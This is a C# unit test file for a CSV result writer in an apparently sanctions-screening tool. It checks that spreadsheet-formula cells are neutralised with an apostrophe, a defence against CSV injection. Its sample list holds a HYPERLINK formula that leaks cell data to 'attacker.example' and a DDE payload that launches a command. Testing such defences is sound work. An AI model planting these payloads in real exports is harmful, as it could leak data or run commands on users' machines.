using System.Text;
using System.Text.Json;
using Snapback.Lists.Formats;
using Snapback.Lists.Model;
using Snapback.Matching;
using Snapback.Screening.Batch;
using Snapback.Screening.Screen;
using Snapback.Screening.Tests.Support;

namespace Snapback.Screening.Tests.Batch;

public sealed class CsvResultWriterTests
{
    // Cells a spreadsheet runs as formulas (OWASP CSV injection): each starts with one of = + - @ tab CR.
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ];

    [Theory]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("+44 20 7946 0000", "\"'+44 20 7946 0000\"")]
    [InlineData("-12", "\"'-12\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\tx", "\"'\tx\"")]
    [InlineData("\rx", "\"'\rx\"")]
    [InlineData("=\"quoted\"", "\"'=\"\"quoted\"\"\"")]
    [InlineData("PUTIN, Vladimir", "\"PUTIN, Vladimir\"")]
    [InlineData("a-b=c", "a-b=c")]
    public void Cell_FormulaOrSeparator_IsQuotedAndFormulasStartWithAnApostrophe(string value, string expected) =>
        Assert.Equal(expected, CsvResultWriter.Cell(value));

    [Fact]
    public async Task Run_FormulaIdsAndListedNames_NoCellStartsAFormula()
    {
        var listed = Formulas.Select((name, i) => Some.Person("test:f" + i, name + " Ivanov Petrovich")).ToList();
        var screening = new ScreeningService();
        screening.Swap(new LoadedLists(MatchIndex.Build(listed), Array.Empty<Screening.Lists.ListSnapshot>(), DateTimeOffset.UnixEpoch));
        var input = new StringBuilder();
        foreach (var formula in Formulas)
        {
            input.AppendLine(JsonSerializer.Serialize(new { id = formula, name = formula + " Ivanov Petrovich" }));
        }

        var output = new StringWriter();
        var ct = TestContext.Current.CancellationToken;
        await using (var writer = new CsvResultWriter(output))
        {
            var rows = PartyFileReader.ReadAsync(new MemoryStream(Encoding.UTF8.GetBytes(input.ToString())), PartyFileFormat.JsonLines, ct);
            await new BatchScreener(screening).RunAsync(rows, writer, null, null, ct);
        }

        var records = CsvReader.ReadRows(new StringReader(output.ToString()), "out.csv").Skip(1).ToList();
        Assert.All(records, static cells => Assert.All(cells, static cell => Assert.False(
            cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"cell starts a formula: {cell}")));
        for (var i = 0; i < Formulas.Length; i++)
        {
            var row = Assert.Single(records, r => r[0] == "'" + Formulas[i] && r[1] == "test:f" + i);
            Assert.Equal("'" + Formulas[i] + " Ivanov Petrovich", row[3]);
        }
    }
}
